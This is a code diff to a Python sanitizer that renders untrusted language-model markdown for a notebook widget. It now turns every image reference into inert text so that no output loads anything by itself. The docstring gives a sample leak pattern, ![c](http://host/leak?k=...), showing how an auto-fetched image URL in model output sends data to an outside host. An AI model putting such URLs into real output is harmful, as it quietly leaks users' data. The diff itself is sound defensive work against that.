@@ -1,12 +1,22 @@
 """Model markdown → safe HTML, and model markdown → markdown with raw HTML made inert.
 
 Model text is never trusted as HTML: a ``<script>`` in an answer must stay visible text in the
-live widget, in the saved notebook and on GitHub. Two layers do that:
+live widget, in the saved notebook and on GitHub. And no output may load anything by itself:
+an image in model markdown (``![c](http://host/leak?k=...)``) would be fetched as soon as the
+output is shown, live or when a saved (even untrusted) notebook is opened, sending whatever the
+model put in the URL. Images in our outputs come only from the image outputs we build from
+bytes (tool results, attachments); an image *reference* in model text is shown as inert text.
+Layers:
 
-1. mistune 3 with ``escape=True`` turns raw HTML in the markdown into text, and its own
-   ``safe_url`` replaces ``javascript:``-style links with ``#harmful-link``;
-2. :func:`nh3.clean` then applies a conservative allow-list (no script/style/iframe, no ``on*``
-   attributes, only http/https/mailto URLs), in case mistune ever lets something through.
+1. mistune 3 with ``escape=True`` turns raw HTML in the markdown into text, its own
+   ``safe_url`` replaces ``javascript:``-style links with ``#harmful-link``, and our renderer
+   writes every image (inline, reference, in tables, links, quotes...) as visible text;
+2. :func:`nh3.clean` then applies a conservative allow-list (no img/svg/style/iframe/form or any
+   other tag that loads, no ``style``/``src``/``srcset`` or ``on*`` attributes, only
+   http/https/mailto URLs), in case mistune ever lets something through;
+3. for the ``text/markdown`` bundle (rendered by JupyterLab's marked, GitHub, nbconvert),
+   :func:`escape_markdown_html` escapes raw HTML and the ``!`` of every ``![``, so an image
+   becomes at most a link someone has to click.
 
 Pure module: no IPython or ipywidgets imports.
 """
@@ -25,22 +35,37 @@ __all__ = ["ALLOWED_TAGS", "clean_html", "escape_markdown_html", "escape_text", 
 ALLOWED_TAGS: frozenset[str] = frozenset(
     {
         "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
-        "hr", "i", "img", "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table",
+        "hr", "i", "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table",
         "tbody", "td", "th", "thead", "tr", "ul",
     }
 )  # fmt: skip
 
 _ATTRIBUTES: dict[str, set[str]] = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "td": {"align"},
     "th": {"align"},
     "ol": {"start"},
 }
 _URL_SCHEMES = {"http", "https", "mailto"}
 
+#: Longest URL shown in the text that replaces an image.
+_SHOWN_URL_CHARS = 160
+
+
+class _InertImages(mistune.HTMLRenderer):
+    """mistune's HTML renderer, except that an image is text saying what was not loaded."""
+
+    def image(self, text: str, url: str, title: str | None = None) -> str:
+        alt = mistune.util.striptags(text).strip()  # children are already escaped HTML
+        shown = url if len(url) <= _SHOWN_URL_CHARS else url[:_SHOWN_URL_CHARS] + "…"
+        label = f"{alt} — " if alt else ""
+        return f"[image not loaded: {label}{escape_text(shown)}]"
+
+
 _markdown = mistune.create_markdown(
-    escape=True, hard_wrap=False, plugins=["table", "strikethrough", "url"]
+    renderer=_InertImages(escape=True),
+    hard_wrap=False,
+    plugins=["table", "strikethrough", "url"],
 )
 
 
@@ -95,9 +120,14 @@ _BAD_LINK = re.compile(
 _BAD_REFERENCE = re.compile(r"^(\s*\[[^\]]+\]:\s*)<?\s*" + _SCHEMES + r"\S*", re.IGNORECASE)
 
 
+# The "!" of an image opener, unless a backslash already escapes it (an even run of
+# backslashes before it escapes only themselves).
+_IMAGE_OPENER = re.compile(r"(?<!\\)((?:\\\\)*)!\[")
+
+
 def _escape_line(line: str) -> str:
     if "|" in line:
-        return _escape_plain(line)
+        return _no_images(_escape_plain(line))
     out: list[str] = []
     pos = 0
     for m in _CODE_SPAN.finditer(line):
@@ -105,7 +135,14 @@ def _escape_line(line: str) -> str:
         out.append(m.group(0))
         pos = m.end()
     out.append(_escape_plain(line[pos:]))
-    return "".join(out)
+    # Code spans too: what looks like a span on this line may not be one to a CommonMark
+    # parser (a span opened on the line before), and a stray backslash in code is harmless.
+    return _no_images("".join(out))
+
+
+def _no_images(text: str) -> str:
+    """``![`` → ``\\![``: an escaped ``!`` and a plain link, never an image."""
+    return _IMAGE_OPENER.sub(lambda m: m.group(1) + "\\![", text)
 
 
 def _escape_plain(text: str) -> str:
@@ -119,7 +156,9 @@ def escape_markdown_html(text: str) -> str:
     """Make raw HTML in untrusted markdown inert while keeping the markdown itself.
 
     Outside code fences and code spans, ``&``, ``<`` and ``>`` become entities, so
-    ``<script>`` renders as text; block-quote markers at line start are kept.
+    ``<script>`` renders as text; block-quote markers at line start are kept. Outside code
+    fences, ``![`` becomes ``\\![`` (an image becomes a link). A fence left open is closed,
+    so the next block of the bundle starts outside code, as this function assumed.
     """
     out: list[str] = []
     fence: str | None = None
@@ -140,4 +179,6 @@ def escape_markdown_html(text: str) -> str:
             out.append(quote.group(1) + _escape_line(line[quote.end() :]))
         else:
             out.append(_escape_line(line))
+    if fence is not None:
+        out.append(fence)
     return "\n".join(out)
